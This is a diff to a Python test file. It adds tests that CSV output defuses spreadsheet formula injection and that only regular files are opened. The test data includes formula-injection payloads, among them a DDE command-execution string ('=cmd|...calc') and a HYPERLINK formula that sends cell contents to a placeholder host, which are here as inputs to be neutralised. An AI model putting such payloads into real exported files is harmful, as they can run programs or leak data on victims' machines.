@@ -13,7 +13,15 @@ from hypothesis import strategies as st
 
 import utils.files
 from utils.errors import UserError
-from utils.files import atomic_write, check_writable, is_inside, write_csv, write_json, write_text
+from utils.files import (
+    atomic_write,
+    check_writable,
+    is_inside,
+    open_regular,
+    write_csv,
+    write_json,
+    write_text,
+)
 from utils.log import log, progress_bar
 from utils.text import harmless, harmless_json, one_line
 
@@ -135,6 +143,51 @@ def test_tables_hold_nothing_that_harms_a_terminal(tmp_path):
         rows = list(csv.DictReader(file))
     expected = "\\x1b[31mred\\x1b[0m \\x9b2J \\u202eevil \\udcff \\x7f\\t\\n"
     assert rows == [{"text": expected, "value": "0.5"}, {"text": "ä,", "value": ""}]
+
+
+@pytest.mark.parametrize(
+    "text, cell",
+    [
+        ("=1+1", "'=1+1"),
+        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
+        ("+1-2", "'+1-2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\\t=1"),
+        ("\r=1", "'\\r=1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("-word", "'-word"),
+        ("=", "="),
+        ("-", "-"),
+        ("+", "+"),
+        ("@", "@"),
+        ("-5", "-5"),
+        ("+1.5", "+1.5"),
+        ("a=1", "a=1"),
+        ("", ""),
+    ],
+)
+def test_no_cell_is_a_formula(tmp_path, text, cell):
+    """A spreadsheet would compute it, and can start programs; words that are no formulas stay."""
+    write_csv(tmp_path / "t.csv", ["a", text or "b"], [{"a": text, text or "b": -1.5}])
+    with open(tmp_path / "t.csv", encoding="utf-8", newline="") as file:
+        assert list(csv.reader(file)) == [["a", cell or "b"], [cell, "-1.5"]]
+
+
+@pytest.mark.parametrize("kind", ["folder", "pipe", "device"])
+def test_only_regular_files_are_opened(tmp_path, kind):
+    path = tmp_path / "file"
+    if kind == "folder":
+        path.mkdir()
+    elif kind == "pipe":
+        os.mkfifo(path)
+    else:
+        path.symlink_to("/dev/zero")
+    handles = len(os.listdir("/proc/self/fd"))
+    with pytest.raises(OSError, match="not a regular file"):
+        open_regular(path)
+    assert len(os.listdir("/proc/self/fd")) == handles
 
 
 def test_json_holds_the_same_values_and_no_control_characters(tmp_path):
